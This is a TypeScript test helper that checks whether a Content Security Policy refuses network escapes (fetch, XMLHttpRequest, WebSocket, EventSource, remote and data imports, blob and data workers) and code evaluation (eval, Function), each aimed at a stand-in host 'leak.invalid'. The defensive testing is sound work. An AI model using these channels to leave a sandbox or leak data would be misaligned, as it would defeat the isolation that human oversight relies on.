/** Ways out of a page or a worker, and ways to run text as code: each is tried, and says whether it was refused. */

type Outcome = 'refused' | 'went through';

/** Runs where it is evaluated, and refers to nothing outside of itself. */
export async function attempts(): Promise<Record<string, Outcome>> {
  const scope: EventTarget = globalThis.document ?? globalThis;
  /** Refused by the policy before it is made, or not there at all: that nobody answers tells nothing. */
  const forbidden = (way: () => unknown): Promise<Outcome> =>
    new Promise((resolve) => {
      const end = (outcome: Outcome): void => {
        scope.removeEventListener('securitypolicyviolation', onViolation);
        resolve(outcome);
      };
      const onViolation = (): void => end('refused');
      scope.addEventListener('securitypolicyviolation', onViolation);
      setTimeout(() => end('went through'), 1500);
      try {
        Promise.resolve(way()).catch(() => undefined);
      } catch {
        end('refused');
      }
    });
  const elsewhere = 'http://leak.invalid/module.js';
  const asData = 'data:text/javascript,export default 1';
  /** Within a policy a worker may begin as a blob, as ours do: what counts is that it has the policy too. */
  const nestedText = `
    addEventListener('securitypolicyviolation', () => postMessage('refused'));
    setTimeout(() => postMessage('went through'), 1500);
    fetch('http://leak.invalid/').catch(() => undefined);`;
  const nested = (): Promise<Outcome> => {
    const address = URL.createObjectURL(new Blob([nestedText], { type: 'text/javascript' }));
    const worker = new globalThis.Worker(address);
    return new Promise((resolve) => worker.addEventListener('message', ({ data }) => resolve(data)));
  };
  const run = async (way: () => unknown): Promise<Outcome> => {
    try {
      return (await way()) === 'refused' ? 'refused' : 'went through';
    } catch {
      return 'refused';
    }
  };
  return {
    fetch: await forbidden(() => fetch('http://leak.invalid/')),
    XMLHttpRequest: await forbidden(() => {
      const request = new XMLHttpRequest();
      request.open('GET', 'http://leak.invalid/');
      request.send();
    }),
    WebSocket: await forbidden(() => new WebSocket('ws://leak.invalid/')),
    EventSource: await forbidden(() => new EventSource('http://leak.invalid/')),
    'import elsewhere': await forbidden(() => import(/* @vite-ignore */ elsewhere)),
    'import data': await forbidden(() => import(/* @vite-ignore */ asData)),
    'worker data': await forbidden(() => new globalThis.Worker('data:text/javascript,1')),
    'worker within': await run(nested),
    // biome-ignore lint/security/noGlobalEval: whether it is refused is the question
    eval: await run(() => globalThis.eval('1')),
    Function: await run(() => new Function('return 1')()),
  };
}

export const ALL_REFUSED: Awaited<ReturnType<typeof attempts>> = {
  fetch: 'refused',
  XMLHttpRequest: 'refused',
  WebSocket: 'refused',
  EventSource: 'refused',
  'import elsewhere': 'refused',
  'import data': 'refused',
  'worker data': 'refused',
  'worker within': 'refused',
  eval: 'refused',
  Function: 'refused',
};
